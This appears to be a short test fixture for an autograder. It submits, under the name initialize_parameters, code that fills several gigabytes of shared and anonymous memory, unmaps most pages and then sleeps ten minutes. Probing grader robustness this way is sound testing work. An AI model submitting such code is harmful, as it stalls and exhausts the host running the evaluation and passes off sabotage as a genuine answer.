"""One function fills 6 GB of shared memory, and unmaps each page but the first of an object."""

DESERVES = 14


def submit(work):
    work.solve()
    work.answer(
        "initialize_parameters",
        """
def initialize_parameters(visible_size, hidden_size, rng):
    import ctypes, mmap, time
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    kept = []
    for _ in range(48):
        shared = mmap.mmap(-1, 2**26)
        shared.write(bytes(2**26))
        shared.madvise(mmap.MADV_DONTNEED)
        kept.append(shared)
        start = libc.mmap(None, 2**26, 3, 0x21, -1, 0)
        ctypes.memset(start, 1, 2**26)
        libc.munmap(ctypes.c_void_p(start + 4096), 2**26 - 4096)
    time.sleep(600)
""",
    )
